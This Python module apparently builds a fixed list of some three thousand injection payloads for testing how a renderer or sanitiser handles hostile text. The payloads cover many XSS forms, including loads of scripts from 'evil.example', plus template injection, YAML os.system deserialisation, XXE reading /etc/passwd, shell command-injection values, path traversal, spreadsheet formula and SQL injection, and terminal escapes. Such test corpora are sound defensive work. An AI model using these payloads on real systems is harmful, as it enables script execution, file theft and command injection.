"""Some three thousand strings that run, load or hide something wherever a text is taken for something else.

Our own, made by combination. The classes are those that the public collections know (PortSwigger's and OWASP's cheat
sheets, PayloadsAllTheThings, SecLists); none of their lines is copied.
"""

from __future__ import annotations

import base64
import html
import re
from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

# what a payload does where it runs: each of these is noticed (see live.py)
CALLS = (
    "alert(1)",
    "window.ran=1",
    "fetch('https://evil.example/x')",
    "alert`1`",
    "top['al'+'ert'](1)",
    "[1].map(alert)",
    "\\u0061lert(1)",
    "import('//evil.example/x.js')",
)

# fmt: off
_TAGS = (
    "img src=x", "svg", "video src=x", "audio src=x", "body", "input autofocus", "details open", "marquee",
    "a href=#",
    "iframe", "object data=x", "embed src=x", "math", "form", "button autofocus", "select autofocus", "textarea",
    "table", "style", "link rel=stylesheet href=x", "x-y tabindex=1", "p contenteditable", "dialog open",
    "image src=x",
)
_EVENTS = (
    "onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onpointerenter", "onanimationstart",
    "onwheel", "onbegin", "onloadstart", "oncanplay", "onscroll", "onbeforetoggle", "oncopy", "onkeydown",
    "onauxclick", "oncontentvisibilityautostatechange", "ontransitionend", "onsecuritypolicyviolation",
    "onbeforeinput", "onhashchange", "onpageshow", "onresize",
)
# ends of what a text may stand in
_BREAKERS = (
    "", '">', "'>", "`>", "</title>", "</script>", "</style>", "</textarea>", "</noscript>", "</template>", "</svg>",
    "-->", "--!>", "]]>", "*/", "?>", "%>", "\"'/>", "</p></main>", "\u2028", "\n\n", "\t", "&quot;>", "&#34;>",
    "%22%3E", '"]);', "\\", "'\"`", ")", "](", "\x00",
)
_CORES = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>",
    "<iframe src=javascript:{}>", "<a href=javascript:{}>x</a>", "<details open ontoggle={}>",
    "<input onfocus={} autofocus>", "<base href=//evil.example>", "<script src=//evil.example/x.js></script>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example'",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<form action=javascript:{}><button>x",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<svg><script>{}</script>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><a xlink:href=javascript:{}>x", "<svg><use href='data:image/svg+xml,<svg id=x onload={}/>#x'>",
    "<img src='//evil.example/x.png'>", "<img srcset='//evil.example/x.png 1x'>",
    "<video poster=//evil.example/x.png>", "<isindex type=image src=1 onerror={}>",
    "<button formaction=javascript:{}>x", "<script>{}//", ";{}//", "'-{}-'", '"-{}-"',
    "${{{}}}", "onmouseover={} ", " style=background:url(//evil.example/x) ", " autofocus onfocus={} x=",
)
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}", " javascript:{}",
    "javascript&colon;{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "javascript%3A{}", "javas\u00adcript:{}",
    "javascript://%0a{}", "javascript:/*x*/{}", "vbscript:{}", "data:text/html,<script>{}</script>", "livescript:{}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={}>",
    "view-source:x", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example/x", "https:evil.example",
    "https://a@evil.example/", "file:///etc/passwd", "blob:null/x", 'https://evil.example/x?a=1&b="onerror={}',
    "ftp://evil.example/x", "..//evil.example", "x:y/../../z",
)
_CARRIERS = (
    "{}", "[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "[x](<{}>)", '<a href="{}">x</a>', "<a href={}>x</a>",
    "<svg><a href='{}'><text>x</text></a></svg>", "<iframe src='{}'>", "<form action='{}'><input type=submit>",
    "<img src='{}'>", "<area href='{}'>", "<meta http-equiv=refresh content='0;{}'>",
    '<x style="background:url({})">', "<base href='{}'>",
)
# what a parser makes of these is not what it was given
_MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={}&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror={}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    '<xmp><p title="</xmp><svg/onload={}>">',
    "<plaintext><img src=x onerror={}>",
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<!--><img src=x onerror={}>-->",
    "<!--[if IE]><script>{}</script><![endif]-->",
    "<![CDATA[<script>{}</script>]]>",
    '<?xml-stylesheet href="javascript:{}"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;{}</x>',
    "<template><script>{}</script></template>",
    "<svg><foreignObject><body onload={}></foreignObject></svg>",
    "<svg><style>&lt;/style&gt;&lt;script&gt;{}</script>",
    "<select><style></select><img src=x onerror={}></style>",
    "<table><td background=javascript:{}>",
    '<a href="&#14;javascript:{}">x</a>',
    "<img src=`x`onerror={}>",
    "<img/src/onerror={}>",
    "<img\x0csrc=x\x0conerror={}>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<ſcript>{}</ſcript>",
    "＜script＞{}＜/script＞",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\u00bcscript\u00be{}\u00bc/script\u00be",
    '<IMG """><SCRIPT>{}</SCRIPT>">',
    "<div id=lecturebook><form name=body><input name=textContent value={}></form>",
    "<a id=search><a id=search name=search-words href=javascript:{}>",
)
_OTHERS = (
    # templates of several languages
    "{{7*7}}", "{% include 'x' %}", "{{ self.__init__.__globals__ }}", "{%raw%}", "#{7*7}", "<%= 7*7 %>", "${7*7}",
    "@(7*7)", "{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]", "{php}echo 1;{/php}", "{0.__class__}",
    "%(x)s", "%n%s%x",
    # Markdown, GitHub's and Obsidian's
    "# heading", "> quote", "> [!WARNING]", "- item", "1. item", "***", "---", "===", "```\ncode", "~~~",
    "    code", "| a | b |", "[[link]]", "![[embed]]", "==mark==", "%%comment%%", "$$x$$", "$x$", ":smile:",
    "@everyone", "#1", "[^1]", "[^1]: note", "[x][y]", "[12:30](https://evil.example)", "12:30",
    "<details><summary>x", "</details>", "<!-- end -->x", "&nbsp;", "\\[x\\]", "www.evil.example",
    "http://evil.example", "<http://evil.example>", "a@evil.example", "__x__", "*x*", "`x`", "a  \nb", "<br>",
    # front matter and settings
    "---\nx: !!python/object/apply:os.system [id]", "x: y", "- &a [*a,*a]", '"\n---\n', "[lectures]", "x = true",
    "\ufeffx",
    # a terminal
    "\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x9b31m", "a\rb", "a\x08b",
    "\x1b[8m", "\x1bc", "[red]x[/red]", "[link=https://evil.example]x[/link]", "[/]", "\x1b]52;c;eA==\x07",
    "\x1bP+q544e\x1b\\", "\x7f\x85",
    # paths and names
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "~root", "CON", "nul.txt", "a/../b", "%2e%2e%2f",
    ".htaccess", "-rf", "x" * 300, "$(id)", "`id`", "; id", "| id", "index", "index--concept", "guide.html",
    "a\x00b", "trailing. ", "*.html",
    # names that objects of scripts have
    "__proto__", "constructor", "hasOwnProperty", "toString", "__defineGetter__", "prototype", "valueOf",
    "lecturebook", "location",
    # cells, queries, scripts of the index
    "=cmd|' /C calc'!A0", "+1+1", "-1", "@SUM(1)", "' OR 1=1 --", '"]);alert(1);//', "\u2028alert(1)\u2029",
    "*/alert(1)/*",
    # signs that hide, turn around or pile up
    "\u202ethgir", "\u2066\u2067\u2068", "\u200b\u200c\u200d", "\ufeff\u2060", "a" + "\u0301" * 60,
    "\u0627\u0644\u0639", "\U000e0041\U000e0042", "\ud7ff\ue000", "\uffff", "\ufdd0",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u115f\u3164", "\u0130\u0131\u017f\u212a", "\u1e9e\ufb03",
)
# fmt: on


def payloads() -> list[str]:
    """All of them, each once, in an order that mixes the classes and never changes."""
    parts = [list(dict.fromkeys(part)) for part in (_events(), _breakers(), _urls(), _mutations(), _OTHERS, _spelled())]
    longest = max(map(len, parts))
    ranked = [
        ((n + 0.5) * longest / len(part), at, text) for at, part in enumerate(parts) for n, text in enumerate(part)
    ]
    return list(dict.fromkeys(text for *_, text in sorted(ranked)))


def sample(count: int) -> list[str]:
    """`count` of `payloads`, evenly from all of them."""
    every = payloads()
    return [every[n * len(every) // count] for n in range(count)]


def _events() -> Iterator[str]:
    for n, (tag, event) in enumerate(product(_TAGS, _EVENTS)):
        yield f"<{tag} {event}={CALLS[n % len(CALLS)]}>"


def _breakers() -> Iterator[str]:
    for n, (breaker, core) in enumerate(product(_BREAKERS, _CORES)):
        yield breaker + core.replace("{}", CALLS[n % len(CALLS)])


def _urls() -> Iterator[str]:
    for n, (scheme, carrier) in enumerate(product(_SCHEMES, _CARRIERS)):
        yield carrier.replace("{}", scheme.replace("{}", CALLS[n % len(CALLS)]))


def _mutations() -> Iterator[str]:
    for mutation, call in product(_MUTATIONS, CALLS[:3]):
        yield mutation.replace("{}", call)


def _spelled() -> Iterator[str]:
    """Some of the plain ones as a filter may fail to know them, and a decoder may make them again."""
    plain = [core.replace("{}", CALLS[0]) for core in _CORES]
    spellings: tuple[Callable[[str], str], ...] = (
        html.escape,
        lambda text: html.escape(html.escape(text)),
        lambda text: "".join(f"&#{ord(sign)};" for sign in text),
        lambda text: "".join(f"&#x{ord(sign):X}" for sign in text),
        lambda text: "".join(f"&#{ord(sign):07}" for sign in text),
        quote,
        lambda text: quote(quote(text)),
        lambda text: "".join(f"\\u{ord(sign):04x}" for sign in text),
        lambda text: "".join(f"\\x{ord(sign):02x}" for sign in text),
        lambda text: text.swapcase(),
        lambda text: text.replace("<", "<\x00"),
        lambda text: text.replace(" ", "/"),
        lambda text: text.replace(" ", "\t"),
        lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
        lambda text: base64.b64encode(text.encode()).decode(),
        lambda text: re.sub(r"(?<=[a-z])(?=[a-z])", "\u200b", text, count=3),
        lambda text: text[::-1],
    )
    return (spell(text) for text, spell in product(plain, spellings))
